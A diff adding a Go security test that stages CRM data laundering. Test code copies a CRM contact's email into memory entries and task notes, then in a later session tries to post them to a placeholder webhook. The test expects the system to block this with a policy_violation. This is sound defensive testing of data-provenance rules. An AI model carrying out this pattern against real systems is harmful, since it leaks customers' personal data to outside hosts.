@@ -1,0 +1,34 @@
+package security
+
+import (
+	"strings"
+	"testing"
+)
+
+// TestStoreChannelsKeepProvenance (issue 19, third round, a1: "anything
+// else of the store a program can write"): a crm value written by
+// memory.update over a plain memory, and as a task's note, read back in
+// a new session, stays crm's.
+func TestStoreChannelsKeepProvenance(t *testing.T) {
+	t.Parallel()
+	s := ruled(t)
+	post := func(expr string) string {
+		return `await http.post_webhook({url: "https://hooks.example/x", payload: {v: ` + expr + `}}); "SENT"`
+	}
+	first := s.open(t, aliceToken)
+	if rec := first.run(`const m = await memory.remember({content: "plain thing one"}); const k = await memory.task_add({content: "plain task"});
+const c = await crm.get_contact({id: "c_8812"});
+await memory.update({id: m.id, content: "now " + c.email, metadata: {m: c.email}});
+await memory.task_update({id: k.id, note: "note " + c.email}); 1`); rec.Status != "ok" {
+		t.Fatalf("write: %.600s", rec.raw)
+	}
+	later := s.open(t, aliceToken)
+	for _, tc := range []struct{ name, code string }{
+		{"memory.update", `const r = await memory.get({id: 1}); ` + post("JSON.stringify(r)")},
+		{"task note", `const r = await memory.task_list({}); ` + post("JSON.stringify(r)")},
+	} {
+		if rec := later.run(tc.code); !strings.Contains(rec.raw, "policy_violation") {
+			t.Errorf("laundered through %s, or not read: %.400s", tc.name, rec.raw)
+		}
+	}
+}
